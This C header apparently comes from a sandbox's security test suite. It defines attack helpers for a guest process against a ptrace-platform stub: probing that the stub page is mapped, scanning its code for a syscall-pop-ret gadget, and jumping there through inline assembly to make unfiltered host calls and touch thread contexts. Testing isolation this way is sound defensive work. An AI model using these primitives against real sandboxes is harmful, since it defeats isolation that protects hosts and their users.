/*
 * What a guest can do with the stub in its own address space: find the
 * contexts, write to them, and make the host calls that the filters leave to the
 * stub, by jumping to its own instructions. The addresses are no secret.
 */
#pragma once
#include "attack.h"
#include "platform/stub/abi.h"
#include <linux/futex.h>

/* Where the stub's instruction `syscall` is, and how many pops stand between it and its ret. */
static unsigned long stub_at, stub_pops;

/* Of an attack that there is nothing to try on; outside.py knows on which platform that is well. */
enum { NOTHING_THERE = 77 };

/* The ptrace platform keeps nothing of its own in a guest's memory but one page that it works
 * through. */
ATTACK bool stub_is_there(void)
{
	pid_t pid = fork();
	int status;

	NEED(pid >= 0);
	if (pid == 0)
		_exit(*(volatile unsigned char *)STUB_CONTEXTS & 0);
	NEED(waitpid(pid, &status, 0) == pid);
	return WIFEXITED(status);
}

ATTACK void stub_find(void)
{
	for (const unsigned char *at = (void *)STUB_TEXT; at < (unsigned char *)STUB_TEXT + 0x2000;
	     at++) {
		const unsigned char *p = at + 2;

		if (at[0] != 0x0f || at[1] != 0x05)
			continue;
		for (stub_pops = 0; *p >= 0x58 && *p <= 0x5f && *p != 0x5c; p++)
			stub_pops++;
		if (*p == 0xc3) {
			stub_at = (unsigned long)at;
			return;
		}
	}
	fail("the stub has no instruction to jump to");
}

/*
 * Any host call, made by the stub's instruction with a stack from which its ret comes back here.
 * The stack that is left behind is found again by rbp, which no host call changes and one pop does:
 * so it goes to the stack a few times over.
 */
ATTACK long stub_call(long nr, uint64_t a, uint64_t b, uint64_t c, uint64_t d, uint64_t e,
                      uint64_t f)
{
	struct {
		uint64_t args[6], at, pops, nr;
	} in = {{a, b, c, d, e, f}, stub_at, stub_pops, (uint64_t)nr};
	long result;

	__asm__ volatile(
	    "lea -128(%%rsp), %%rsp\n"
	    "push %%rbx\n push %%rbp\n push %%r12\n push %%r13\n push %%r14\n push %%r15\n"
	    "mov %%rsp, %%r12\n"
	    "sub $256, %%rsp\n"
	    "and $-16, %%rsp\n"
	    "lea 3f(%%rip), %%rcx\n"
	    "push %%r12\n"
	    "push %%rcx\n"
	    "mov 56(%%rax), %%rcx\n"
	    "1: test %%rcx, %%rcx\n jz 2f\n push %%r12\n dec %%rcx\n jmp 1b\n"
	    "2: mov (%%rax), %%rdi\n mov 8(%%rax), %%rsi\n mov 16(%%rax), %%rdx\n"
	    "mov 24(%%rax), %%r10\n mov 32(%%rax), %%r8\n mov 40(%%rax), %%r9\n"
	    "mov 48(%%rax), %%rcx\n mov 64(%%rax), %%rax\n"
	    "jmp *%%rcx\n"
	    "3: pop %%rsp\n"
	    "pop %%r15\n pop %%r14\n pop %%r13\n pop %%r12\n pop %%rbp\n pop %%rbx\n"
	    "lea 128(%%rsp), %%rsp\n"
	    : "=a"(result)
	    : "a"(&in)
	    : "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11", "memory", "cc");
	return result;
}

/* The context of thread index k of this process. */
ATTACK struct stub_context *context(unsigned k)
{
	return stub_context_at(STUB_CONTEXTS, k);
}

/* Wakes the sentry's workers, as a stub does that has asked for something. */
ATTACK void ring(void)
{
	stub_call(SYS_futex, (uint64_t) & ((struct stub_shared *)STUB_SHARED)->doorbell, FUTEX_WAKE,
	          1, 0, 0, 0);
}
